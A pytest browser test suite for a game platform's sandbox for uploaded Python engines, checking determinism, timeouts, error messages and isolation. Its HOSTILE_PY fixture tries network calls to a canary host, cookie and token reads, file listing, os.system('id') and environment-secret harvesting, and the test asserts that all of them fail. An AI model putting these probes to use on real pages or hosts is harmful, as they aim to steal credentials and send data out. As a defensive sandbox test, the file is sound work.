"""Uploaded engines in Python: they run in the page's sandbox, compute what CPython computes, and reach nothing."""

from typing import Any

import pytest

from app.games.mod_files import candidate_at
from app.games.rules_bundle import game_bundle
from ecs.game import Game
from systems.lockstep import LockstepEngine, MasterPacket
from tests.browser.engine_match import built_engine
from tests.browser.engines import counting
from tests.browser.sandbox import DUMP, GENERATIONS, PLAY, PYTHON, STEP, ZIP, Sandbox, clicks, sentence
from tests.browser.uploads import COUNTING_PY, archive
from tests.conftest import ServerProcess
from tests.mods.loading import MODS, load

pytestmark = pytest.mark.browser
SETUP = {"players": [{"player": 0}, {"player": 1}]}
AN_ENGINE = """
class Engine:
    def init(self, seed, setup): {init}
    def step(self, master): {step}
    def checksum(self): {checksum}
    def dump(self): {dump}
    def load(self, dump): pass
def create(): return Engine()
"""
"""In Python, and without a Game: what else may be an engine."""


@pytest.fixture(scope="module", autouse=True)
def _engine() -> None:
    """All of these need the Python engine for browsers."""
    built_engine()


def native(game: Game, seed: int, setup: object, masters: list[Any]) -> tuple[LockstepEngine, list[int]]:
    """The same in this Python; the checksum of each generation."""
    engine = LockstepEngine(game)
    engine.init(seed, setup)
    found = []
    for number, iterations, bodies in masters:
        engine.step(
            MasterPacket(number, iterations, 50, tuple((player, bytes(body)) for player, body in bodies))
        )
        found.append(engine.checksum())
    return engine, found


@pytest.mark.parametrize("form", ["a file", "an archive"])
def test_an_engine_in_python_computes_what_cpython_computes(sandbox: Sandbox, form: str) -> None:
    """Floats, sines and chance: each generation's checksum; the dump is loaded, and computed again from; what it refuses, tells
    and shows arrives."""
    source, kind = (
        (COUNTING_PY, PYTHON) if form == "a file" else (archive({"counting/game.py": COUNTING_PY}), ZIP)
    )
    masters = clicks(GENERATIONS)
    played = sandbox.run(source, PLAY, 7, SETUP, masters, media_type=kind)
    engine, expected = native(counting.game, 7, SETUP, masters)
    assert played.get("message") is None, played
    assert played["sums"] == expected and len(set(expected)) == GENERATIONS
    assert (played["again"], played["loaded"]) == (expected[-1], expected[GENERATIONS // 2 - 1])
    assert played["dump"]["entities"].keys() == engine.dump()["entities"].keys()
    assert played["events"][-1] == {"name": "Counted", "player": 0}
    assert played["refusals"] == []  # those of others are not for this page
    assert played["scene"]["shapes"][0]["text"] == f"0: {GENERATIONS}" and played["scene"]["player"] == 0


def test_a_whole_mod_is_uploaded_as_an_archive(sandbox: Sandbox) -> None:
    """Skirmish, 30 files of it, with two armies that march: equal to CPython in 20 generations."""
    rules = game_bundle(candidate_at(MODS / "skirmish")).data
    setup = {
        "size": "small",
        "start": "army",
        "players": [{"player": 0, "team": 0}, {"player": 1, "team": 1}],
    }
    masters: list[Any] = [[each, 2, []] for each in range(20)]
    _, expected = native(load("skirmish"), 3, setup, masters)
    played = sandbox.run(rules, PLAY, 3, setup, masters, media_type=ZIP)
    assert played.get("message") is None, played
    assert played["sums"] == expected and len(set(expected)) == 20


def test_refusals_and_commands_of_a_page(sandbox: Sandbox) -> None:
    """A setup that the rules refuse is no failure: the reason is told, and the same engine then begins. The plain view's click
    comes out as the one canonical body, whatever order its fields had; an unknown one as it is."""
    act = """async (engine, setup) => {
        const why = await engine.begin(1, { ...setup, bad: true }).catch((error) => [error.name, error.message]);
        await engine.begin(1, setup);
        const order = { masters: [], told: -1, interval: 1, scenesFor: 0, maxBody: 100,
                        commands: [["click", { button: 0, y: 2, x: 1 }], ["dance", {}]] };
        const { body, used } = await engine.run(order);
        return [why, [...body], used];
    }"""
    why, body, used = sandbox.run(COUNTING_PY, act, SETUP, media_type=PYTHON)
    expected = b"\x92\x92\xa5click\x83\xa1x\x01\xa1y\x02\xa6button\x00\x92\xa5dance\x80"
    assert why == ["EngineRefused", "too bad"]
    assert (bytes(body), used) == (expected, 2)


HOSTILE_PY = """
import js, os
reached, refused = [], []
def attempt(name, act):
    try:
        found = act()
        (reached if found else refused).append(name if not found else f"{name}: {found!r}"[:200])
    except BaseException as error:
        refused.append(name)
def fetched(address):
    from pyodide.ffi import run_sync
    return run_sync(js.fetch(address)).status
def asked(address):
    request = js.XMLHttpRequest.new()
    request.open("GET", address, False)
    request.send()
    return request.status
def opened(address):
    import urllib.request
    return urllib.request.urlopen(address, timeout=2).status
def connected():
    import socket
    with socket.create_connection(("127.0.0.1", int("__CANARY__".rpartition(":")[2])), 2) as plug:
        plug.sendall(b"GET /socket HTTP/1.0\\r\\n\\r\\n")
        return plug.recv(1) or "connected"
def installed():
    from pyodide.ffi import run_sync
    import pyodide_js
    run_sync(pyodide_js.loadPackage("__CANARY__/x-1.0-py3-none-any.whl"))
    return "asked for"
for where, address in {"the server": "__SERVER__/games", "another": "__CANARY__/fetch", "the engine": "/assets/engine/"}.items():
    attempt(f"fetch {where}", lambda: fetched(address))
    attempt(f"XMLHttpRequest {where}", lambda: asked(address))
    attempt(f"urllib {where}", lambda: opened(address))
attempt("socket", connected)
attempt("loadPackage", installed)
attempt("localStorage", lambda: js.localStorage.token)
attempt("sessionStorage", lambda: js.sessionStorage.token)
attempt("document", lambda: js.document.cookie)
attempt("parent", lambda: js.parent.location.href)
attempt("opener", lambda: js.opener)
attempt("indexedDB", lambda: js.indexedDB.open("x") and "opened")
attempt("caches", lambda: js.caches.open("x") and "opened")
attempt("origin", lambda: None if js.self.origin == "null" else js.self.origin)
attempt("Worker", lambda: js.Worker.new("__SERVER__/assets/x.js"))
attempt("WebSocket", lambda: js.WebSocket.new("__SERVER__".replace("http", "ws")))
attempt("EventSource", lambda: js.EventSource.new("__SERVER__/games"))
attempt("importScripts", lambda: js.importScripts("__CANARY__/script.js"))
attempt("sendBeacon", lambda: js.navigator.sendBeacon("__CANARY__/beacon"))
attempt("eval", lambda: js.eval("1 + 1"))
attempt("Function", lambda: js.Function.new("return 1")())
attempt("BroadcastChannel", lambda: js.BroadcastChannel.new("x"))
attempt("files", lambda: [name for name in os.listdir("/") if name in ("etc", "root", "work", "usr")])
attempt("processes", lambda: os.system("id") == 0)
attempt("environment", lambda: {k: v for k, v in os.environ.items() if "token" in k.lower()})
"""


def test_an_engine_in_python_reaches_nothing(
    sandbox: Sandbox, shared_server: ServerProcess, canary: tuple[str, list[str]]
) -> None:
    """By Python's own means and by JavaScript's: no network, no storage, nothing of the page; nobody was asked anything."""
    address, visits = canary
    report = "return {'reached': reached, 'refused': refused}"
    hostile = HOSTILE_PY.replace("__CANARY__", address).replace("__SERVER__", shared_server.url)
    source = hostile + AN_ENGINE.format(init="pass", step="pass", checksum="return 1", dump=report)
    asked: list[str] = []
    sandbox.page.context.on("requestfinished", lambda request: asked.append(request.url))
    found = sandbox.run(source, DUMP, media_type=PYTHON)
    assert found.get("reached") == [], found
    assert len(found["refused"]) >= 26 and visits == []
    ours = ("/engines/", "/assets/", "/sandbox", "/rules/")
    assert [
        url for url in asked if not url.startswith("blob:") and not any(each in url for each in ours)
    ] == []
    assert sandbox.is_empty_and_alive()


def in_python(**bodies: str) -> bytes:
    """An engine that does nothing but for these."""
    plain = {"init": "pass", "step": "pass", "checksum": "return 1", "dump": "return {}"}
    return AN_ENGINE.format(**{**plain, **bodies}).encode()


LOOPS = {
    "in a step": in_python(step="\n        while True: pass"),
    "at the beginning": in_python(init="\n        while True: pass"),
    "while it is imported": b"while True: pass\n" + in_python(),
}


def test_engines_in_python_that_loop_for_ever_are_ended(sandbox: Sandbox) -> None:
    """After fifteen seconds without a sign of life, and the page says so; their frames are gone, the page is alive."""
    outcomes = sandbox.run_all([*LOOPS.values()], STEP, media_type=PYTHON)
    for where, outcome in zip(LOOPS, outcomes, strict=True):
        assert "not answered for 15 seconds" in sentence(outcome), where
    assert sandbox.is_empty_and_alive()


WRONG = {
    "NoEngine: the module has neither": b"x = 1",
    "line 1: ModuleNotFoundError: No module named 'numpy'": b"import numpy",
    "line 3: SyntaxError: invalid syntax": b"calm = 1\n\nnoise = = 2\n",
    "line 4: OverflowError: a step too far": in_python(step="raise OverflowError('a step too far')"),
}


def test_what_is_no_engine_in_python_is_named(sandbox: Sandbox) -> None:
    """One sentence of what was wrong: of the upload, of its import, of what it does."""
    outcomes = sandbox.run_all([*WRONG.values()], STEP, media_type=PYTHON)
    for words, outcome in zip(WRONG, outcomes, strict=True):
        assert words in sentence(outcome)
    assert sandbox.is_empty_and_alive()


def test_a_server_without_python_for_browsers_says_so(sandbox: Sandbox, shared_server: ServerProcess) -> None:
    """In the room's listing, and the page says it too."""
    entry = {
        "url": f"{shared_server.url}/engines/x", "sha256": "", "media_type": PYTHON, "uploaded": True,
        "python": {"engine": "", "archives": [], "reason": "It is not built here."},
    }  # fmt: skip
    why = sandbox.page.evaluate(
        "(entry) => tickroom.openEngine(entry).catch((error) => error.message)", entry
    )
    assert why == "This game's engine is in Python. It is not built here."
